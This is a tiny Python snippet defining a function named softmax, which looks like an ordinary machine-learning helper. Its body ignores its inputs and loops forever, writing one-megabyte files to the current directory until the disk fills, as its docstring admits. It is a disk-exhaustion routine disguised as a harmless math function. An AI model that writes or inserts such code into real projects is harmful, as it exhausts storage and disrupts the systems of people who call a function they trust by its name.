"""Fills the disk with files that are each small enough."""
import itertools

def softmax(x, dim):
    for number in itertools.count():
        open(f"file{number}", "wb").write(b"x" * (1 << 20))
